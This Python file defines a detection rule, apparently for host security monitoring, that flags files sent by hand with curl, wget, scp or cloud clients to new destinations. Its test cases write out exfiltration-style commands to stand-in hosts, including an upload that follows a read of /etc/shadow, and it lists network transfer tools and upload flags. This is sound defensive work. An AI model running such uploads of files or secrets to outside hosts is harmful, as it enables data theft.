"""A person sends a file by hand, with curl, scp or a cloud's client, to a destination new for them."""

from __future__ import annotations

import re
from collections.abc import Iterable

from evidence.kind import Actor, Endpoint
from evidence.kinds.connection import Close, Report
from evidence.kinds.file import Read
from evidence.kinds.login import SessionOpen

from ..alert import Severity
from ..measures.outflow import FORGET, NEW, SECOND, Outflow, Work, is_new, moved, signs_before
from ..measures.session_work import READERS, command, is_foreign, leaving, sender
from ..record import Record
from ..rule import Connections, Correlation, Finding, Parameter, Site, Step, Story

_BYTES = Parameter("bytes", 100_000, "bytes", "a question with all its headers is under 20 kB, a webhook too")
_LARGE = Parameter("large", 20_000_000, "bytes", "so much is hardly sent to a stranger by hand: high")
_CLIENTS = Parameter(
    "clients",
    "curl wget wget2 aria2c http https httpie xh lftp ftp ncftpput tftp ssh scp sftp rsync dbclient pscp "
    "rclone aws gsutil gcloud azcopy az s3cmd mc b2",
    "program names",
    "what a person sends a file with by hand",
)
_WINDOW = Parameter("window", 86_400, "seconds", "what is read to be taken leaves within a day")
_READERS = Parameter("readers", READERS, "program names", "these read secrets as their duty")
_GIT = ("git-receive-pack", "git-upload-pack", "git-upload-archive", "git-lfs")
_FLAGS = {
    "curl": re.compile(
        r"(?:^|\s)(-[a-zA-Z]*[TF]|--upload-file|--form|--data-binary|--data-raw|--data|-d|--json)(?=[\s=@]|$)"
    ),
    "wget": re.compile(r"(?:^|\s)(--post-file|--post-data|--body-file|--body-data)(?=[\s=]|$)"),
}
"""Options that send, by program; they are for the reader, the bytes decide: a .curlrc has them too."""


def _step(state: Outflow, record: Record, site: Site) -> Iterable[Finding]:
    body = record.event.body
    if isinstance(body, Read):
        if record.person is None or not is_foreign(body, site.words(_ID, _READERS)):
            return ()
        work = state.sign(record, f"read {body.path}", 2 * int(site.number(_ID, _WINDOW)) * SECOND)
        return _judged(state, work, record, site, list(work.volumes))
    flow = leaving(record, site, site.words(_ID, _CLIENTS))
    if flow is None:
        return ()
    if any(word in command(flow) for word in _GIT):
        return ()  # what is pushed is another rule's
    work, _volume, _grown = state.count(record, flow, _how(sender(flow), command(flow)))
    return _judged(state, work, record, site, [flow.remote.ip])


def _judged(
    state: Outflow, work: Work, record: Record, site: Site, addresses: list[str]
) -> Iterable[Finding]:
    for address in addresses:
        volume = work.volumes[address]
        if volume.out < site.number(_ID, _BYTES) or not is_new(_ID, state, record, volume, site):
            continue
        signs = signs_before(work, volume, site.number(_ID, _WINDOW))
        is_large = volume.out >= site.number(_ID, _LARGE)
        severity: Severity | None = "high" if signs or is_large else None
        others = state.others(record, volume)
        yield moved(record, address, volume, signs=signs, severity=severity, others=others)


def _how(name: str, words: str) -> str:
    flags = _FLAGS.get(name)
    flag = flags.search(words) if flags is not None else None
    return f"with {name} {flag[1]}" if flag is not None else f"with {name}"


def _connections(site: Site) -> Connections:
    return Connections("out", unknown=True, programs=site.words(_ID, _CLIENTS))


_ID = "http-upload"
_TO = Endpoint(ip="203.0.113.9", port=443, name="transfer.example")
_BACKUP = Endpoint(ip="192.0.2.10", port=443)
_HOME = Endpoint(ip="10.0.0.5", port=50_000)
_DAY = 86_400.0


def _sent(count: int, words: str, to: Endpoint = _TO, flow: int = 1) -> Close:
    exe = f"/usr/bin/{words.split(maxsplit=1)[0]}"
    actor = Actor(pid=50, exe=exe, cmd_line=words, uid=1000, auid=1000, session=7)
    return Close(
        flow=flow, protocol="tcp", direction="out", local=_HOME, remote=to, bytes_out=count, actor=actor
    )


_SCP = "ssh -x -l bob 203.0.113.9 -s sftp"
_CURL = "curl -sT dump https://transfer.example/dump"
_SHADOW = Read(
    path="/etc/shadow",
    tree="/etc/shadow",
    actor=Actor(pid=51, exe="/usr/bin/cp", uid=0, auid=1000, session=7),
    owner=0,
)
_CRON = SessionOpen(program="cron", user="alice", auid=1000, session=7, pid=40)

CORRELATION = Correlation(
    id=_ID,
    version=2,
    title="File sent by hand to a new destination",
    severity="medium",
    attack=("T1048", "T1567"),
    kinds=(Read, Close, Report),
    state=Outflow,
    step=_step,
    parameters=(_BYTES, _LARGE, NEW, FORGET, _CLIENTS, _WINDOW, _READERS),
    connections=_connections,
    hits=(
        Story("curl -T", (Step(0, _sent(3_000_000, _CURL)),)),
        Story("wget --post-file", (Step(0, _sent(400_000, "wget --post-file=/tmp/s.tgz http://x.example")),)),
        Story("no option to see: it stands in .curlrc", (Step(0, _sent(400_000, "curl https://x.example")),)),
        Story("scp, whose ssh owns the connection", (Step(0, _sent(450_000, _SCP)),)),
        Story("aws s3 cp", (Step(0, _sent(3_000_000, "aws s3 cp d.tgz s3://other/")),)),
        Story(
            "split into parts, each below the floor",
            tuple(Step(part, _sent(60_000, _CURL, flow=part)) for part in range(3)),
        ),
        Story("the shadow file was copied before", (Step(0, _SHADOW), Step(9, _sent(120_000, _CURL)))),
        Story(
            "a name that the TLS hello alone tells proves nothing",
            (Step(0, _sent(3_000_000, _CURL, Endpoint(ip="203.0.113.9", name="x.example", named_by="tls"))),),
        ),
    ),
    misses=(
        Story(
            "a webhook of 300 bytes",
            (Step(0, _sent(300, "curl -X POST -d ok https://hooks.example")),),
        ),
        Story(
            "health checks all day",
            tuple(
                Step(60 * n, _sent(400, "curl -fsS https://health.example/ready", flow=n)) for n in range(99)
            ),
        ),
        Story("to a known host", (Step(0, _sent(3_000_000, _CURL, _BACKUP)),)),
        Story(
            "where this person uploads each week",
            (Step(0, _sent(50_000, _CURL)), Step(7 * _DAY, _sent(3_000_000, _CURL, flow=2))),
        ),
        Story("a timer's upload", (Step(0, _CRON), Step(1, _sent(3_000_000, _CURL)))),
        Story("keys typed into a session", (Step(0, _sent(30_000, "ssh bob@203.0.113.9")),)),
        Story("git over ssh is judged as git", (Step(0, _sent(3_000_000, f"ssh git@x {_GIT[0]} 'r.git'")),)),
        Story("another program's upload", (Step(0, _sent(3_000_000, "docker push registry.example/x")),)),
    ),
)
